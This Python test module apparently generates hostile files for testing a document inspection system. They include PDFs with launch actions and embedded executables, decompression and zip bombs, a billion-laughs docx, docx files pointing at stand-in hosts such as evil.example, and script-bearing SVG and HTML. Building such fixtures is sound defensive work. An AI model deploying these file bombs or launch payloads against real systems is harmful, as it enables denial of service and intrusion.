"""Hostile files of every kind, made on the spot: none of them may be kept, or eat the machine."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

from PIL import Image, PngImagePlugin

from tests.vault.inspection import making
from tests.vault.inspection.making import MIB


def raw_pdf(path: Path, *objects: bytes, root: int = 1) -> Path:
    """A PDF of these objects, numbered from 1, as they stand."""
    out, places = bytearray(b"%PDF-1.7\n"), []
    for number, body in enumerate(objects, start=1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer\n<</Size %d/Root %d 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1, root, xref,
    )  # fmt: skip
    path.write_bytes(out)
    return path


def _one_page(path: Path, page: bytes, *more: bytes, catalogue: bytes = b"") -> Path:
    return raw_pdf(
        path,
        b"<</Type/Catalog/Pages 2 0 R%s>>" % catalogue,
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]%s>>" % page,
        *more,
    )


def launching(path: Path) -> Path:
    """Opening it starts a program."""
    action = b"/OpenAction<</S/Launch/Win<</F(cmd.exe)>>>>"
    return _one_page(path, b"", catalogue=action)


def launching_by_reference(path: Path) -> Path:
    """The same, behind a link on the page."""
    link = b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A 4 0 R>>]"
    return _one_page(path, link, b"<</S/JavaScript/JS(app.alert\\(1\\))>>")


def with_attachment(path: Path) -> Path:
    """Another file inside."""
    names = b"/Names<</EmbeddedFiles<</Names[(a.exe)4 0 R]>>>>"
    return _one_page(
        path, b"", b"<</Type/Filespec/F(a.exe)/EF<</F 5 0 R>>>>",
        b"<</Type/EmbeddedFile/Length 2>>stream\nMZ\nendstream", catalogue=names,
    )  # fmt: skip


def pages_in_a_ring(path: Path) -> Path:
    """A tree of pages that is its own branch."""
    return raw_pdf(
        path, b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2>>"
    )


def nested(path: Path) -> Path:
    """Brackets in brackets, a hundred thousand deep."""
    return _one_page(path, b"/X " + b"[" * 100_000 + b"]" * 100_000)


def forms_in_a_ring(path: Path) -> Path:
    """A drawing that draws itself."""
    form = (
        b"<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</F 4 0 R>>>>"
        b"/Length 10>>stream\n/F Do /F Do\nendstream"
    )
    page = b"/Resources<</XObject<</F 4 0 R>>>>/Contents 5 0 R"
    return _one_page(path, page, form, b"<</Length 5>>stream\n/F Do\nendstream")


def forms_that_multiply(path: Path) -> Path:
    """Six drawings, each of which draws the next thirty times."""
    forms = [
        b"<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</F %d 0 R>>>>"
        b"/Length 150>>stream\n%s\nendstream" % (number + 1, b"/F Do" * 30)
        for number in range(4, 9)
    ]
    last = b"<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/Length 10>>stream\n0 0 9 9 re\nendstream"
    page = b"/Resources<</XObject<</F 4 0 R>>>>/Contents 10 0 R"
    return _one_page(path, page, *forms, last, b"<</Length 5>>stream\n/F Do\nendstream")


def double_deflated(path: Path) -> Path:
    """A content stream packed twice: a gigabyte in a few hundred bytes."""
    packed = zlib.compress(zlib.compress(b"q Q " * (256 * MIB // 4), 9), 9)
    body = b"<</Length %d/Filter[/FlateDecode/FlateDecode]>>stream\n%s\nendstream"
    return _one_page(path, b"/Contents 4 0 R", body % (len(packed), packed))


def hidden_in_hex(path: Path) -> Path:
    """A bomb behind another filter."""
    packed = zlib.compress(b"q Q " * (256 * MIB // 4), 9).hex().encode() + b">"
    body = b"<</Length %d/Filter[/ASCIIHexDecode/FlateDecode]>>stream\n%s\nendstream"
    return _one_page(path, b"/Contents 4 0 R", body % (len(packed), packed))


def endless_pattern(path: Path) -> Path:
    """A page that is filled with a pattern of one point a hundred thousand times."""
    drawn = b"/Pattern cs /P scn " + b"0 0 595 842 re f " * 20_000
    pattern = (
        b"<</PatternType 1/PaintType 1/TilingType 1/BBox[0 0 1 1]/XStep .1/YStep .1"
        b"/Resources<<>>/Length 10>>stream\n0 0 1 1 re\nendstream"
    )
    return _one_page(
        path, b"/Resources<</Pattern<</P 5 0 R>>>>/Contents 4 0 R",
        b"<</Length %d>>stream\n%s\nendstream" % (len(drawn), drawn), pattern,
    )  # fmt: skip


def zip_of_overlapping_parts(path: Path) -> Path:
    """Many entries that share the same packed bytes."""
    inside = io.BytesIO()
    with zipfile.ZipFile(inside, "w", zipfile.ZIP_DEFLATED) as made:
        made.writestr("a", b"\0" * MIB)
    raw = inside.getvalue()
    start = raw.index(b"PK\x01\x02")
    entry = raw[start : raw.index(b"PK\x05\x06")]
    count = 2000
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, len(entry) * count, start, 0)
    path.write_bytes(raw[:start] + entry * count + end)
    return path


def zip_of_many(path: Path) -> Path:
    """Sixty thousand empty parts."""
    with zipfile.ZipFile(path, "w") as made:
        for number in range(60_000):
            made.writestr(f"{number}", b"")
    return path


def zip_that_lies(path: Path) -> Path:
    """It says that it holds one byte, and holds fifty megabytes."""
    made = making.archive(path, {"a": b"\0" * 50 * MIB})
    raw = bytearray(made.read_bytes())
    size, lie = struct.pack("<I", 50 * MIB), struct.pack("<I", 1)
    made.write_bytes(raw.replace(size, lie))
    return made


def laughing_docx(path: Path) -> Path:
    """Entities that name entities, behind spaces so that the first bytes look harmless."""
    entities = b"".join(b'<!ENTITY l%d "%s">' % (n, b"&l%d;" % (n - 1) * 10) for n in range(1, 10))
    text = (
        b"<?xml version='1.0'?>" + b" " * 5000 + b'<!DOCTYPE d [<!ENTITY l0 "lol">%s]>' % entities
    )
    return making.docx(path, {}, text + b"<w:document>&l9;</w:document>")


def utf16_docx(path: Path) -> Path:
    """The declaration in another alphabet, where a search for its letters does not find it."""
    text = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE d SYSTEM "http://evil/x"><w:document/>'
    return making.docx(path, {}, text.encode("utf-16"))


def docx_with_far_template(path: Path) -> Path:
    """A template from the internet."""
    target = (
        b'<Relationships><Relationship Type="http://x/attachedTemplate" '
        b'Target="http://evil.example/a.dotm" TargetMode="External"/></Relationships>'
    )
    return making.docx(path, {"word/_rels/settings.xml.rels": target})


def docx_with_huge_picture(path: Path) -> Path:
    """A picture of 2.5 thousand million pixels in a letter."""
    picture = making.huge_png(path.with_suffix(".png")).read_bytes()
    return making.docx(path, {"word/media/image1.png": picture})


def tiff_of_many_pages(path: Path) -> Path:
    """Six hundred pages."""
    page = Image.new("1", (8, 8), 1)
    page.save(path, "TIFF", save_all=True, append_images=[page] * 600)
    return path


def tiff_in_a_ring(path: Path) -> Path:
    """The page after the first is the first."""
    Image.new("L", (300, 300), 255).save(path, "TIFF")
    raw = bytearray(path.read_bytes())
    (first,) = struct.unpack_from("<I", raw, 4)
    (count,) = struct.unpack_from("<H", raw, first)
    struct.pack_into("<I", raw, first + 2 + 12 * count, first)
    path.write_bytes(raw)
    return path


def cut_jpeg(path: Path) -> Path:
    """Half a photograph."""
    image = Image.effect_noise((1200, 900), 80)
    image.save(path, "JPEG")
    path.write_bytes(path.read_bytes()[: path.stat().st_size // 2])
    return path


def wide_jpeg(path: Path) -> Path:
    """A head that claims 65 000 by 65 000 pixels."""
    Image.new("L", (64, 64), 128).save(path, "JPEG")
    raw = bytearray(path.read_bytes())
    at = raw.index(b"\xff\xc0")
    raw[at + 5 : at + 9] = struct.pack(">HH", 65_000, 65_000)
    path.write_bytes(raw)
    return path


def png_with_packed_text(path: Path) -> Path:
    """A remark that unpacks to two hundred megabytes."""
    info = PngImagePlugin.PngInfo()
    info.add_text("remark", "x" * 200 * MIB, zip=True)
    Image.effect_noise((300, 300), 80).save(path, "PNG", pnginfo=info)
    return path


def drawing_with_script(path: Path) -> Path:
    """SVG is a program."""
    path.write_bytes(b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>")
    return path


def page_in_disguise(path: Path) -> Path:
    """A web page that calls itself a picture."""
    path.write_bytes(b"<!DOCTYPE html><script>alert(1)</script>")
    return path


def program(path: Path) -> Path:
    """An ELF program."""
    path.write_bytes(b"\x7fELF" + b"\0" * 600)
    return path


def heic_of_nothing(path: Path) -> Path:
    """A HEIC head and noise."""
    path.write_bytes(b"\0\0\0\x18ftypheic\0\0\0\0heicmif1" + bytes(range(256)) * 40)
    return path


KINDS: dict[str, tuple[Callable[[Path], Path], str]] = {
    "launching.pdf": (launching, "active_content"),
    "launching_by_reference.pdf": (launching_by_reference, "active_content"),
    "with_attachment.pdf": (with_attachment, "active_content"),
    "pages_in_a_ring.pdf": (pages_in_a_ring, "damaged"),
    "nested.pdf": (nested, "damaged"),
    "forms_in_a_ring.pdf": (forms_in_a_ring, "bomb"),
    "forms_that_multiply.pdf": (forms_that_multiply, "timeout"),
    "double_deflated.pdf": (double_deflated, "bomb"),
    "hidden_in_hex.pdf": (hidden_in_hex, "bomb"),
    "endless_pattern.pdf": (endless_pattern, "timeout"),
    "overlapping.zip": (zip_of_overlapping_parts, "bomb"),
    "many.zip": (zip_of_many, "bomb"),
    "lying.zip": (zip_that_lies, "damaged"),
    "laughing.docx": (laughing_docx, "active_content"),
    "utf16.docx": (utf16_docx, "active_content"),
    "far_template.docx": (docx_with_far_template, "active_content"),
    "huge_picture.docx": (docx_with_huge_picture, "bomb"),
    "many_pages.tiff": (tiff_of_many_pages, "too_many_pages"),
    "ring.tiff": (tiff_in_a_ring, "blank"),
    "cut.jpg": (cut_jpeg, "damaged"),
    "wide.jpg": (wide_jpeg, "bomb"),
    "packed_text.png": (png_with_packed_text, "damaged"),
    "script.svg": (drawing_with_script, "wrong_type"),
    "page.jpg": (page_in_disguise, "wrong_type"),
    "program.pdf": (program, "wrong_type"),
    "nothing.heic": (heic_of_nothing, "damaged"),
}
